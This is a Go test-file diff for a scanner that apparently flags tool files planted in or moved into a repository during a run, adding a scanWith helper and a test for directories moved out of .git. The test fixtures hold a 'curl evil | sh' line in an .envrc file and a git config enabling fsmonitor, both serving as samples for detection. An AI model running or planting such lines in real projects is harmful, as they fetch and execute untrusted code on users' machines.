@@ -19,7 +19,12 @@ func shortRacyMargin(t testing.TB) {
 }
 
 func scanJoin(root string, started time.Time, tr *tree) (string, *tree) {
-	fs, next := scan(root, started, nil, nil, nil, tr)
+	return scanWith(root, started, tr, nil)
+}
+
+// scanWith is scanJoin with the previous run's tree prev.
+func scanWith(root string, started time.Time, tr, prev *tree) (string, *tree) {
+	fs, next := scan(root, started, nil, nil, nil, tr, prev)
 	var b strings.Builder
 	for _, f := range fs {
 		b.WriteString(f.Text + "\n")
@@ -326,7 +331,7 @@ func BenchmarkScanAfterRun(b *testing.B) {
 	for _, c := range cases {
 		b.Run(c.name, func(b *testing.B) {
 			for b.Loop() {
-				if f, _ := scan(root, started, nil, nil, nil, c.t); len(f) != 0 {
+				if f, _ := scan(root, started, nil, nil, nil, c.t, nil); len(f) != 0 {
 					b.Fatalf("findings: %v", f)
 				}
 			}
@@ -343,5 +348,38 @@ func BenchmarkScanAfterRun(b *testing.B) {
 				}
 			}
 		})
+	}
+}
+
+// TestScanMovedIntoSight: a tool file planted where the scan does not look
+// (inside a .git directory) keeps its ctime when the directory holding it
+// is moved into sight in a later run: the scan reports what lies below a
+// directory that the previous run's tree does not record at that path and
+// whose ctime moved during the run, whatever their own ctimes. A directory
+// the previous run recorded there, or one that did not change, is judged
+// as before.
+func TestScanMovedIntoSight(t *testing.T) {
+	root, _ := filepath.EvalSymlinks(t.TempDir())
+	write(t, filepath.Join(root, "sub", ".git", "x", "p", ".envrc"), "curl evil | sh\n")
+	write(t, filepath.Join(root, "sub", ".git", "x", "q", "r", ".git", "config"), "[core]\n\tfsmonitor = true\n")
+	write(t, filepath.Join(root, "old", ".envrc"), "export A=1\n")
+	prev := readTree(root, nil, nil, nil) // the previous run's, at its end
+	time.Sleep(30 * time.Millisecond)
+	started := time.Now()
+	time.Sleep(20 * time.Millisecond)
+	if err := os.Rename(filepath.Join(root, "sub", ".git", "x", "p"), filepath.Join(root, "other")); err != nil {
+		t.Fatal(err)
+	}
+	if err := os.Rename(filepath.Join(root, "sub", ".git", "x", "q"), filepath.Join(root, "sub", "q")); err != nil {
+		t.Fatal(err)
+	}
+	got, _ := scanWith(root, started, nil, prev)
+	for _, want := range []string{"other/.envrc", "sub/q/r/.git/config"} {
+		if !strings.Contains(got, want) {
+			t.Errorf("%s, moved into sight during the run, is not reported:\n%s", want, got)
+		}
+	}
+	if strings.Contains(got, "old/.envrc") {
+		t.Errorf("an unchanged file in a recorded directory is reported:\n%s", got)
 	}
 }
